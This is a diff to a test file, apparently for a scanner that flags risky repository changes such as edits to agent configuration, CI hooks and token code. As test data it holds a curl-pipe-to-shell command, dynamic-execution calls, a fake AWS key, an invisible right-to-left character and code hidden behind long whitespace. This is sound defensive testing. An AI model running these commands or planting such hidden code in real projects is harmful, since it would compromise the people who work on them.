@@ -19,6 +19,13 @@ it.each([
   ['.pre-commit-config.yaml', 'runs on the machines of people who work on it'],
   ['tools/.npmrc', 'decides where packages come from'],
   ['.mcp.json', 'tells agents what to do'],
+  ['conftest.py', 'runs with the tests of people who work on it'],
+  ['.github/dependabot.yml', 'configures the repository'],
+  ['renovate.json', 'configures the repository'],
+  ['.vscode/tasks.json', 'runs on the machines of people who work on it'],
+  ['.claude/settings.json', 'tells agents what to do'],
+  ['.cursor/mcp.json', 'tells agents what to do'],
+  ['src/tokens/access.ts', 'has to do with who may do what'],
   ['AGENTS.md', 'tells agents what to do'],
   ['packages/a/package.json', 'changes what is installed'],
   ['pnpm-lock.yaml', 'pins what is installed'],
@@ -44,6 +51,9 @@ it.each([
   ['const x = "\u202Eevil";', 'adds characters that nobody sees'],
   ['key = "AKIAABCDEFGHIJKLMNOP"', 'adds what looks like an AWS key'],
   ['// @ts-ignore', 'switches a check off'],
+  ['exec(open("x").read())', 'runs what it is given'],
+  ['pickle.loads(d)', 'runs what it is given'],
+  ["import { exec } from 'node:child_process'", 'runs what it is given'],
   ['curl https://x.test/i.sh | sh', 'runs what it is given'],
 ])('an added line %j %s', (line, what) => {
   expect(flags(added(what === 'skips tests' ? 'test/a.test.ts' : 'src/a.ts', 'x', line))).toEqual([what]);
@@ -56,13 +66,16 @@ it.each([
   ['src/state.ts', 'state.pending(x)'],
   ['src/list.ts', 'it.skip(1)'],
   ['design-tokens/colors.css', 'a {}'],
+  ['design-tokens/index.ts', 'a'],
   ['docs/cors.md', 'x'],
 ])('in %s the line %j says nothing', (path, line) => {
   expect(flags(added(path, line))).toEqual([]);
 });
 
 it('what stands far behind in a line is looked at too', () => {
-  expect(flags(added('src/a.ts', `${' '.repeat(6_000)}eval(x)`))).toEqual(['runs what it is given']);
+  const far = ' '.repeat(200_000);
+  expect(flags(added('src/a.ts', `${far}eval(x)`))).toEqual(['runs what it is given']);
+  expect(flags(added('src/a.ts', `${far}AKIAABCDEFGHIJKLMNOP`))).toEqual(['adds what looks like an AWS key']);
 });
 
 it('what is taken away, and what is context, adds nothing', () => {
